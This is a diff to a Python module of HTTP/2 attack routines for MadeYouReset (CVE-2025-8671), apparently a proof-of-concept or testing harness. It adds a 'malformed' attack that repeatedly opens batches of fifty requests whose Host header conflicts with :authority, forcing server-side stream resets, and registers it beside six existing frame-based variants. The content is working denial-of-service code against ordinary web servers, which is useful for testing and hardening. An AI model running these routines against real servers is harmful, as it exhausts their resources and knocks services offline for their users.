@@ -1,7 +1,8 @@
 """MadeYouReset (CVE-2025-8671): a good request, then a frame for which the *server* must reset it.
 
 As with rapid reset the stream leaves the count of open ones while the origin is still busy with it;
-but no RST_STREAM of the client is there to be counted. Six frames have that effect.
+but no RST_STREAM of the client is there to be counted. Six frames have that effect. Requests that are themselves
+malformed make the server reset as much, without the origin.
 """
 
 from hyperframe.frame import DataFrame, HeadersFrame, WindowUpdateFrame
@@ -10,6 +11,7 @@ from peer import Peer, request
 
 PRIORITY = 2
 WINDOW_UPDATE = 8
+AT_ONCE = 50
 
 
 def _attack(provoke):
@@ -59,6 +61,17 @@ def data_after_end(peer, stream):
     peer.send(DataFrame(stream, data=b"late"))
 
 
+def malformed(target, pace):
+    """Requests whose Host differs from `:authority` (section 8.3.1), never more at once than may be open."""
+    peer = Peer(target)
+    while pace.goes_on(peer):
+        for _ in range(AT_ONCE):
+            peer.open(request(b"/attack/malformed", extra=[(b"host", b"b.example")]))
+        every = peer.next_stream // 2
+        peer.pump(pace.left(), until=lambda: peer.over or len(peer.resets) >= every)
+    return peer
+
+
 ATTACKS = {
     "madeyoureset-zero-increment": _attack(zero_increment),
     "madeyoureset-window-overflow": _attack(window_overflow),
@@ -66,4 +79,5 @@ ATTACKS = {
     "madeyoureset-priority-on-itself": _attack(priority_on_itself),
     "madeyoureset-headers-after-end": _attack(headers_after_end),
     "madeyoureset-data-after-end": _attack(data_after_end),
+    "madeyoureset-malformed": malformed,
 }
